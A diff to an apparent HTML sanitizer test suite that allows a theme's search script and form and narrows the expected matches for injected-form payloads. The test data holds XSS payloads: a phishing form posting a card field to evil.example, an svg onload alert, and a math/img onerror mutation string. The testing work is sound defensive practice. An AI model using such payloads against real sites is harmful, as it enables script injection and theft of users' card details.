@@ -35,6 +35,7 @@ BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
 URL_ATTRIBUTES = frozenset(
     {"href", "src", "action", "formaction", "poster", "background", "cite", "data", "xlink:href", "srcset", "ping"}
 )
+SCRIPTS = ("/copy.js", "/search.js")  # the theme's own scripts
 FORBIDDEN_TAGS = frozenset(
     {
         "iframe", "frame", "frameset", "style", "form", "input", "button", "textarea", "select", "svg", "math",
@@ -68,7 +69,7 @@ PAYLOADS = [
     Payload(
         "form",
         '<form action="https://evil.example/carte"><input name=carte><button>Donner</button></form>',
-        ("<form", "<input", "<button"),
+        ('<form action="https://evil', "<input name=carte", "<button>donner"),  # the search page has its own form
     ),
     Payload("svg-onload", "<svg onload=alert('duvet')><circle r=9 /></svg>", ("<svg",)),
     Payload("math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(4)>", ("<math", "<img src=x")),
@@ -404,12 +405,12 @@ def element_problems(element: Element, theme: Theme) -> Iterator[str]:
     tag = element.tag
     if tag not in theme.tags | TAGS:
         yield f"<{tag}> is neither a theme tag nor a Markdown tag"
-    if tag in FORBIDDEN_TAGS:
+    if tag in FORBIDDEN_TAGS - theme.tags:  # the search page's own form; counts per page catch injected ones
         yield f"<{tag}> reached the page"
     if tag == "source" and (element.get("type") != "image/webp" or element.get("src") is not None):
         yield f"a <source> that is not the theme's WebP picture source: {element.attrs}"
-    if tag == "script" and (element.attrs not in theme.scripts or not (element.get("src") or "").endswith("/copy.js")):
-        yield f"a <script> that is not the theme's copy.js: {element.attrs}"
+    if tag == "script" and (element.attrs not in theme.scripts or not (element.get("src") or "").endswith(SCRIPTS)):
+        yield f"a <script> that is not one of the theme's: {element.attrs}"
     if tag == "meta" and element.get("http-equiv") is not None:
         pair = ((element.get("http-equiv") or "").lower(), element.get("content") or "")
         if pair not in theme.equivs:
